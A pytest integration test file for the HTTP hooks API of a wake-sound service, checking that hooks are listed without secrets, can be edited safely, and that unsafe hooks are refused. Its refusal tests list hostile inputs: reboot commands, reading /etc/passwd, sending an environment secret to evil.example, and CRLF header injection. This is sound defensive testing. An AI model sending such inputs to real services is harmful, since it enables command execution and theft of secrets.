"""Hooks through the HTTP service: seen, added, changed, tried and removed, and what may not be."""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx
import pytest

from runtime.configuration import load
from runtime.services.http.config import ServerConfig
from tests.integration.http_server import Served, serving
from tests.waiting import wait_until
from wakeword.errors import ConfigError
from wakeword.events import WakeEvent

pytest.importorskip("fastapi")

pytestmark = pytest.mark.slow

TOKEN = "a-token-that-is-long-enough"
FILE = """\
# Mine, do not lose this.
[[hooks]]
name = "lamp"  # kitchen
do = "https://user:password@127.0.0.1:1/secret-path"
sounds = "whistle"
headers = { Authorization = "Bearer ${HOOK_SECRET}" }

[[hooks]]
do = "exec:touch {marker}"
sounds = "clap"
"""


class Receiver:
    """Takes what is posted; answers as the path says."""

    def __init__(self) -> None:
        self.posts: list[tuple[str, dict[str, str], bytes]] = []
        receiver = self

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                body = self.rfile.read(int(self.headers["Content-Length"]))
                receiver.posts.append((self.path, dict(self.headers), body))
                self.send_response(500 if "broken" in self.path else 200)
                self.end_headers()

            def log_message(self, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever)
        self.thread.start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()
        self.thread.join()


@pytest.fixture
def receiver() -> Iterator[Receiver]:
    receiver = Receiver()
    yield receiver
    receiver.close()


@pytest.fixture
def file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("HOOK_SECRET", "env-secret")
    path = tmp_path / "wakesound.toml"
    path.write_text(FILE.replace("{marker}", str(tmp_path / "ran")), encoding="utf-8")
    return path


@pytest.fixture
def served(file: Path, tmp_path: Path) -> Iterator[Served]:
    with serving(tmp_path / "library", hook_file=file, actions=[("bell", "log:info")]) as served:
        yield served


def _hear(served: Served, sound: str) -> None:
    served.service.heard(WakeEvent(sound, 0.9, 0.5, 0, 100, 100, id="x"), "test")


def _hook(client: httpx.Client, **wanted: Any) -> dict[str, Any]:
    answer = client.post("/hooks", json=wanted)
    assert answer.status_code == 201, answer.text
    found: dict[str, Any] = answer.json()
    return found


def test_hooks_are_listed_without_secrets(served: Served) -> None:
    """Of the file and of the command line; neither passwords nor paths nor variables are told."""
    with served.client() as client:
        answer = client.get("/hooks")
    for secret in ("password", "secret-path", "env-secret", "HOOK_SECRET"):
        assert secret not in answer.text
    found = answer.json()
    assert (found["kept"], found["commands"]) == (True, False)
    lamp, command, bell = found["hooks"]
    assert (lamp["name"], lamp["sounds"], lamp["kind"]) == ("lamp", ["whistle"], "https")
    assert lamp["headers"] == ["Authorization"]
    assert (lamp["editable"], command["editable"], bell["editable"]) == (True, False, False)
    assert (bell["id"], bell["sounds"]) == ("", ["bell"])


def test_a_hook_is_added_acts_and_is_kept(served: Served, receiver: Receiver, file: Path) -> None:
    """At once and after a restart, with its conditions; the file's own lines stay."""
    with served.client() as client:
        hook = _hook(client, do=f"{receiver.url}/a", sounds=["whistle"], name="new", min_score=0.5)
        assert hook["action"] == receiver.url  # without the path
        _hear(served, "bell")
        _hear(served, "whistle")
        wait_until(lambda: receiver.posts)
        assert json.loads(receiver.posts[0][2])["sound"] == "whistle"
        wait_until(lambda: client.get("/hooks").json()["hooks"][2]["called"] == 1)
    text = file.read_text(encoding="utf-8")
    assert "# Mine, do not lose this." in text
    assert "# kitchen" in text
    kept = load(file).table.hooks[2]
    assert (kept.do, kept.sounds, kept.min_score) == (f"{receiver.url}/a", ["whistle"], 0.5)


def test_a_hook_is_changed_and_removed(served: Served, receiver: Receiver, file: Path) -> None:
    """What is left out stays, what is null goes; others are not disturbed."""
    with served.client() as client:
        first = _hook(
            client, do=f"{receiver.url}/a", sounds=["whistle"], quiet_hours=["22:00-7:00"]
        )
        other = _hook(client, do=f"{receiver.url}/b", sounds=["whistle"])
        _hear(served, "whistle")
        wait_until(lambda: client.get("/hooks").json()["hooks"][3]["called"] == 1)
        change = {"sounds": ["clap", "bell"], "quiet_hours": None, "enabled": True}
        changed = client.patch(f"/hooks/{first['id']}", json=change).json()
        assert changed["sounds"] == ["clap", "bell"]
        assert changed["quiet_hours"] == []
        assert changed["id"] != first["id"]
        assert client.get("/hooks").json()["hooks"][3]["called"] == 1
        receiver.posts.clear()
        _hear(served, "clap")
        wait_until(lambda: [path for path, _, _ in receiver.posts] == ["/a"])
        assert client.patch(f"/hooks/{first['id']}", json=change).status_code == 404
        off = client.patch(f"/hooks/{changed['id']}", json={"enabled": False}).json()
        assert not off["enabled"]
        for hook in (off, other):
            assert client.delete(f"/hooks/{hook['id']}").status_code == 204
        assert client.delete(f"/hooks/{off['id']}").status_code == 404
    assert len(load(file).table.hooks) == 2


def test_a_hook_is_tried(served: Served, receiver: Receiver) -> None:
    """Whatever its conditions, once and without repeating; it says what went wrong."""
    with served.client() as client:
        hook = _hook(client, do=f"{receiver.url}/try", sounds=["whistle"], min_score=1.0)
        answer = client.post(f"/hooks/{hook['id']}/try").json()
        assert answer == {"ok": True, "detail": ""}
        path, headers, body = receiver.posts[0]
        assert path == "/try"
        assert json.loads(body)["sound"] == "whistle"
        assert json.loads(body)["source"] == "test"
        assert headers["X-Wakesound-Event"]
        broken = _hook(client, do=f"{receiver.url}/broken")
        answer = client.post(f"/hooks/{broken['id']}/try", json={"sound": "bell"}).json()
        assert not answer["ok"]
        assert "500" in answer["detail"]
        assert [json.loads(body)["sound"] for _, _, body in receiver.posts] == ["whistle", "bell"]


@pytest.mark.parametrize(
    ("wanted", "status", "code"),
    [
        ({"do": "exec:reboot"}, 403, "commands_off"),
        ({"do": "shell:reboot"}, 403, "commands_off"),
        ({"do": "py:os:abort"}, 403, "commands_off"),
        ({"do": "json:/etc/passwd"}, 403, "commands_off"),
        ({"do": " exec:reboot"}, 403, "commands_off"),
        ({"do": "EXEC:reboot"}, 403, "commands_off"),
        ({"do": "https://evil.example/${HOOK_SECRET}"}, 403, "environment_off"),
        (
            {"do": "https://evil.example", "headers": {"X": "${HOOK_SECRET}"}},
            403,
            "environment_off",
        ),
        ({"do": "https://evil.example", "secret_env": "HOOK_SECRET"}, 422, "bad_request"),
        ({"do": "https://"}, 422, "bad_hook"),
        ({"do": "https://a.example", "message": "no template"}, 422, "bad_hook"),
        ({"do": "https://a.example", "quiet_hours": ["soon"]}, 422, "bad_hook"),
        ({"do": "mqtt://a.example"}, 422, "bad_hook"),
        (
            {"do": "https://a.example", "template": "wecom", "message": "{score:10000000f}"},
            422,
            "bad_hook",
        ),
        (
            {"do": "https://a.example", "template": "ntfy", "title": "{time:%10000000d}"},
            422,
            "bad_hook",
        ),
        ({"do": "https://a.example", "headers": {"Content-Length": "1"}}, 422, "bad_hook"),
        ({"do": "https://a.example", "headers": {"X": "a\r\nY: b"}}, 422, "bad_hook"),
        ({"do": "https://a.example", "headers": {"X\r\nY": "b"}}, 422, "bad_hook"),
        ({"do": "https://a.example", "sounds": []}, 422, "bad_request"),
        ({"sounds": ["whistle"]}, 422, "bad_request"),
    ],
)
def test_what_may_not_be_set_is_refused(
    served: Served, file: Path, wanted: dict[str, Any], status: int, code: str
) -> None:
    """Neither programs nor files nor the environment; and nothing that makes no sense."""
    before = file.read_text(encoding="utf-8")
    with served.client() as client:
        answer = client.post("/hooks", json=wanted)
    assert (answer.status_code, answer.json()["error"]) == (status, code), answer.text
    assert file.read_text(encoding="utf-8") == before


def test_a_hook_that_runs_something_can_only_be_seen(
    served: Served, file: Path, tmp_path: Path
) -> None:
    """Not changed, not tried, not removed, and no hook becomes one."""
    before = file.read_text(encoding="utf-8")
    with served.client() as client:
        lamp, command, _ = client.get("/hooks").json()["hooks"]
        for answer in (
            client.patch(f"/hooks/{command['id']}", json={"sounds": ["*"]}),
            client.post(f"/hooks/{command['id']}/try"),
            client.delete(f"/hooks/{command['id']}"),
            client.patch(f"/hooks/{lamp['id']}", json={"do": "exec:reboot"}),
        ):
            assert (answer.status_code, answer.json()["error"]) == (403, "commands_off")
    assert not (tmp_path / "ran").exists()
    assert file.read_text(encoding="utf-8") == before


def test_a_new_address_does_not_get_the_old_ones_secrets(
    served: Served, receiver: Receiver, file: Path
) -> None:
    """Headers belong to the host they were written for; else a page could have them sent to it."""
    with served.client() as client:
        lamp = client.get("/hooks").json()["hooks"][0]
        kept = client.patch(f"/hooks/{lamp['id']}", json={"name": "lamp 2"}).json()
        assert kept["headers"] == ["Authorization"]
        moved = client.patch(f"/hooks/{kept['id']}", json={"do": f"{receiver.url}/x"}).json()
        assert moved["headers"] == []
        assert client.post(f"/hooks/{moved['id']}/try").json()["ok"]
    assert "Authorization" not in receiver.posts[0][1]
    assert "env-secret" not in str(receiver.posts)


def test_a_foreign_page_sets_no_hook(served: Served, file: Path) -> None:
    """Neither by its origin nor by another name for this machine."""
    before = file.read_text(encoding="utf-8")
    wanted = {"do": "https://evil.example"}
    with served.client() as client:
        for headers in ({"Origin": "https://evil.example"}, {"Host": "evil.example"}):
            assert client.post("/hooks", json=wanted, headers=headers).status_code == 403
        form = {"Content-Type": "text/plain"}  # what a form can send without being asked
        answer = client.post("/hooks", content=json.dumps(wanted), headers=form)
        assert answer.status_code == 422
    assert file.read_text(encoding="utf-8") == before


def test_commands_need_to_be_allowed_and_a_token(file: Path, tmp_path: Path) -> None:
    """With --allow-commands who has the token may set anything; without a token it is refused."""
    with pytest.raises(ConfigError, match="--allow-commands"):
        ServerConfig(commands=True)
    marker = tmp_path / "made"
    with (
        serving(tmp_path / "library", hook_file=file, token=TOKEN, commands=True) as served,
        served.client() as client,
    ):
        assert client.post("/hooks", json={"do": f"exec:touch {marker}"}).status_code == 401
        client.headers["Authorization"] = f"Bearer {TOKEN}"
        hook = _hook(client, do=f"exec:touch {marker}", sounds=["whistle"])
        assert client.post(f"/hooks/{hook['id']}/try").json()["ok"]
        assert marker.exists()


def test_a_server_without_a_file_keeps_no_hooks(tmp_path: Path) -> None:
    """It says so; one whose file is not there yet makes it."""
    with serving(tmp_path / "library") as served, served.client() as client:
        assert client.get("/hooks").json() == {"hooks": [], "kept": False, "commands": False}
        answer = client.post("/hooks", json={"do": "https://a.example"})
        assert (answer.status_code, answer.json()["error"]) == (409, "no_configuration")
    file = tmp_path / "config" / "wakesound.toml"
    with serving(tmp_path / "library", hook_file=file) as served, served.client() as client:
        _hook(client, do="https://a.example")
    assert load(file).table.hooks[0].do == "https://a.example"


def test_what_somebody_wrote_meanwhile_is_kept(served: Served, file: Path) -> None:
    """The file is read anew before each change, and its new hooks count from then on."""
    with served.client() as client:
        text = file.read_text(encoding="utf-8")
        file.write_text(text + '\n[[hooks]]\ndo = "log:info"\n', encoding="utf-8")
        _hook(client, do="https://a.example")
        kinds = [hook["kind"] for hook in client.get("/hooks").json()["hooks"]]
        assert kinds == ["https", "exec", "log", "https", "log"]
        file.write_text("[[hooks", encoding="utf-8")
        answer = client.post("/hooks", json={"do": "https://a.example"})
        assert answer.status_code == 422
        assert "not TOML" in answer.json()["detail"]
    assert file.read_text(encoding="utf-8") == "[[hooks"


def test_a_hook_of_an_earlier_version_that_must_not_run_is_off(
    tmp_path: Path, receiver: Receiver, caplog: pytest.LogCaptureFixture
) -> None:
    """The server starts and says so; the others work, and the hook can be mended."""
    file = tmp_path / "wakesound.toml"
    file.write_text(
        f'[[hooks]]\ndo = "{receiver.url}/a"\ntemplate = "wecom"\n'
        f'message = "{{score:10000000f}}"\n[[hooks]]\ndo = "{receiver.url}/b"\n'
    )
    with serving(tmp_path / "library", hook_file=file) as served, served.client() as client:
        assert any(f"{file}:4: hooks #1: message is wrong" in text for text in caplog.messages)
        first, second = client.get("/hooks").json()["hooks"]
        assert "too wide" in first["problem"]
        assert second["problem"] == ""
        _hear(served, "whistle")
        wait_until(lambda: receiver.posts)
        assert [path for path, _, _ in receiver.posts] == ["/b"]
        tried = client.post(f"/hooks/{first['id']}/try").json()
        assert not tried["ok"]
        assert "too wide" in tried["detail"]
        renamed = client.patch(f"/hooks/{second['id']}", json={"name": "b"})
        assert renamed.status_code == 200
        assert client.patch(f"/hooks/{first['id']}", json={"name": "a"}).status_code == 422
        mended = client.patch(f"/hooks/{first['id']}", json={"message": "{score:.2f}"}).json()
        assert mended["problem"] == ""
